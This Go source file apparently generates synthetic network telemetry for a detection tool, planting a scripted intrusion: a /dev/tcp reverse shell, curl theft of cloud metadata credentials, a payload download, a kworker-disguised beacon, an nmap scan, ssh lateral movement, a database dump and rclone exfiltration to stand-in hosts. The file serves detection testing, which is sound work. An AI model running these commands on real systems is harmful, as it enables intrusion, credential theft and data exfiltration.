package generate

import (
	"net/netip"
	"time"

	"golang.org/x/sys/unix"

	"github.com/conntape/conntape/store"
)

// The story is one intrusion in one process tree. An attacker makes a web server run a shell. The shell calls back,
// steals credentials from the metadata service, and drops a program that hides as a kernel thread and beacons; then it
// scans, moves on by ssh and carries data out. Its addresses are reserved for documentation, or private and used by
// nothing else on the tape.

// Addresses and directory of the story.
const (
	storyControl = "198.51.100.7"  // reverse shell and download
	storyBeacon  = "198.51.100.66" // command and control
	storyDrop    = "203.0.113.99"  // where the data goes
	storyHidden  = "/dev/shm/.x"   // where the tools are
)

// storyStart is the story's begin, as a fraction of the span.
const storyStart = 0.6

// story adds the intrusion to a stream.
type story struct {
	*Stream
	worker *store.Process // the web server's
	shell  *store.Process
	start  uint64
	n      int
}

// plantStory adds the story and returns its number of connections.
func (s *Stream) plantStory() int {
	t := &story{Stream: s, start: s.at(storyStart)}
	master := t.execute(s.host.init, s.o.Begin/2, "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx")
	t.worker = t.execute(master, s.o.Begin/2+uint64(time.Second), "/usr/sbin/nginx", "nginx: worker process")
	for _, p := range []*store.Process{master, t.worker} {
		p.Comm = "nginx"
		p.Unit, p.Cgroup = "nginx.service", "/system.slice/nginx.service"
	}
	s.web = t.worker
	t.everyDay()
	t.enter()
	t.stay()
	t.moveOn()
	t.carryOut()
	return t.n
}

// execute starts a program as the web server's user.
func (t *story) execute(parent *store.Process, at uint64, exe string, argv ...string) *store.Process {
	p := t.host.execution(exe, parent, at)
	p.Argv, p.Cwd, p.Container = argv, "/var/www", ""
	p.UID, p.GID, p.EUID, p.User, p.LoginUID, p.SessionID = 33, 33, 33, "www-data", -1, -1
	p.Unit, p.Cgroup = "nginx.service", "/system.slice/nginx.service"
	if parent == t.host.init {
		p.UID, p.GID, p.EUID, p.User = 0, 0, 0, "root"
	}
	return p
}

// after returns the moment d after the story's begin.
func (t *story) after(d time.Duration) uint64 { return t.start + uint64(d) }

// connectAt adds one connect with its outcome.
func (t *story) connectAt(at uint64, p *store.Process, to *store.Endpoint, hook, errno unix.Errno) {
	who := (&process{Process: p}).task(0)
	shape := *t.host.usual(to)
	shape.HookErrno, shape.Errno = int32(hook), int32(errno)
	row := store.Connection{Task: who, Remote: to, Shape: t.host.shape(shape), FD: 3}
	t.n++
	t.add(&event{
		at:    at,
		next:  func(uint64) store.Connection { return row },
		after: func(uint64) uint64 { return never },
	})
}

// everyDay adds the web server's ordinary connects.
func (t *story) everyDay() {
	php := inet(netip.MustParseAddr("127.0.0.1"), 9000)
	for i := range 300 {
		t.connectAt(t.at(float64(i)/300)+uint64(t.random.Int64N(int64(time.Minute))), t.worker, php, 0, 0)
	}
}

// enter adds the way in: a shell that calls back, and stolen credentials.
func (t *story) enter() {
	t.shell = t.execute(t.worker, t.after(0), "/usr/bin/dash", "sh", "-c", "exec 3<>/dev/tcp/"+storyControl+"/4444")
	t.shell.Comm = "sh"
	t.connectAt(t.after(time.Millisecond), t.shell, address(storyControl, 4444), 0, 0)
	steal := t.execute(t.shell, t.after(20*time.Second), "/usr/bin/curl", "curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")
	t.connectAt(t.after(20*time.Second), steal, address("169.254.169.254", 80), 0, 0)
	fetch := t.execute(t.shell, t.after(45*time.Second), "/usr/bin/curl", "curl", "-so", storyHidden+"/kworker", "http://"+storyControl+":8000/k")
	t.connectAt(t.after(45*time.Second), fetch, address(storyControl, 8000), 0, 0)
}

// stay adds the beacon, every five minutes ±30%, and a connect to docker that a security module denies.
func (t *story) stay() {
	beacon := t.execute(t.shell, t.after(time.Minute), storyHidden+"/kworker", "[kworker/u8:2]")
	beacon.Comm = "kworker/u8:2"
	t.plantBeacon(beacon)
	t.connectAt(t.after(90*time.Second), beacon, local("/run/docker.sock"), unix.EACCES, unix.EACCES)
}

func (t *story) plantBeacon(p *store.Process) {
	const interval, jitter = 5 * time.Minute, 0.3
	to := address(storyBeacon, 443)
	first := t.after(time.Minute + time.Second)
	n := 0
	for due := first; due < t.end(); due += uint64(interval) {
		moved := int64((2*t.random.Float64() - 1) * jitter * float64(interval))
		t.connectAt(max(first, uint64(int64(due)+moved)), p, to, 0, 0)
		n++
	}
	t.planted = append(t.planted, Planted{Beacon, p, []*store.Endpoint{to}, first, t.end(), interval, jitter, n})
}

// moveOn adds the scan of a subnet for ssh, and the logins that follow.
func (t *story) moveOn() {
	scan := t.execute(t.shell, t.after(time.Hour), storyHidden+"/nmap", "nmap", "-p22", "10.20.0.0/24")
	var targets []*store.Endpoint
	at := t.after(time.Hour)
	for i := 1; i < 255; i++ {
		to := address(netip.AddrFrom4([4]byte{10, 20, 0, byte(i)}).String(), 22)
		targets = append(targets, to)
		end := unix.ECONNREFUSED
		switch {
		case i%17 == 0:
			end = 0
		case i%3 == 0:
			end = unix.EHOSTUNREACH
		}
		t.connectAt(at, scan, to, 0, end)
		at += uint64(200*time.Millisecond) + uint64(t.random.Int64N(int64(400*time.Millisecond)))
	}
	t.planted = append(t.planted, Planted{Kind: Scan, Process: scan, Remotes: targets, First: t.after(time.Hour), Last: at, Connections: len(targets)})
	for i, host := range []string{"10.20.0.17", "10.20.0.34", "10.20.0.34"} {
		start := t.after(70*time.Minute + time.Duration(i)*25*time.Minute)
		ssh := t.execute(t.shell, start, "/usr/bin/ssh", "ssh", "-i", storyHidden+"/id", "deploy@"+host)
		t.connectAt(start, ssh, address(host, 22), 0, 0)
	}
	dump := t.execute(t.shell, t.after(150*time.Minute), "/usr/lib/postgresql/16/bin/pg_dump", "pg_dump", "-h", "10.20.0.51", "customers")
	t.connectAt(t.after(150*time.Minute), dump, address("10.20.0.51", 5432), 0, 0)
}

// carryOut adds the exfiltration: many connects to one new endpoint within an hour.
func (t *story) carryOut() {
	const connects = 400
	start := t.after(3 * time.Hour)
	carry := t.execute(t.shell, start, storyHidden+"/rclone", "rclone", "copy", "/dev/shm/.x/out", "drop:c")
	to := address(storyDrop, 443)
	for range connects {
		t.connectAt(start+uint64(t.random.Int64N(int64(45*time.Minute))), carry, to, 0, unix.EINPROGRESS)
	}
	t.planted = append(t.planted, Planted{Kind: Exfiltration, Process: carry, Remotes: []*store.Endpoint{to}, First: start, Last: start + uint64(45*time.Minute), Connections: connects})
}

func address(text string, port uint16) *store.Endpoint { return inet(netip.MustParseAddr(text), port) }
